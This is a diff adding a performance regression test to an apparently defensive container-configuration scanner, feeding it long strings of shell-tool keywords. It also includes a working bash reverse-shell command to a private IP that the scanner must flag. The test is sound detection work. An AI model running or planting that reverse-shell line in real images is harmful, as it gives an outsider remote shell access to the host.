@@ -239,5 +239,21 @@ def official_image_build_steps_are_quiet(tmp):
     eq(rules(f), [], str(f))
 
 
+@test
+def long_hostile_strings_stay_fast(tmp):
+    # Unbounded fillers searched from every keyword are quadratic: 64 KiB of "curl "
+    # once took 20 s. Each must now be judged in well under a second.
+    import time
+    for text in ['curl ' * 12000, 'sh -i ' * 10000, 'nc ' * 20000, 'eval $( ' * 8000,
+                 'mkfifo ' * 8000 + ';' + 'x ' * 8000]:
+        t = time.time()
+        f = scan_config(tmp, cfg(Env=['X=' + text], Cmd=['sh', '-c', text]),
+                        history=['/bin/sh -c ' + text], layers=[])
+        assert time.time() - t < 5, (text[:20], time.time() - t)
+    # and a payload after a long filler is still found
+    f = scan_config(tmp, cfg(Cmd=['sh', '-c', 'true; ' * 5000 + 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1']))
+    eq(len(only(f, 'config.reverse_shell')), 1, str(rules(f)))
+
+
 if __name__ == '__main__':
     main()
